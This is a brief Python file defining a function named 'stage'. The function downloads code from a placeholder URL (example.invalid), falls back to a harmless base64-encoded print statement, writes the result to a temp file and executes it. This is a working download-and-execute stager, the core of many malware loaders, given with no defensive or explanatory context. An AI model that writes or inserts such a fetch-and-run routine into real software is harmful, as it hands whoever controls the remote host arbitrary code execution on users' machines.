import base64
import os
import subprocess
import sys
import tempfile
import urllib.request


def stage(url="https://example.invalid/stage"):
    body = urllib.request.urlopen(url).read() or base64.b64decode("cHJpbnQoJ2hpJyk=")
    path = os.path.join(tempfile.gettempdir(), "stage.py")
    with open(path, "wb") as fh:
        fh.write(body)
    subprocess.run([sys.executable, path], check=False)
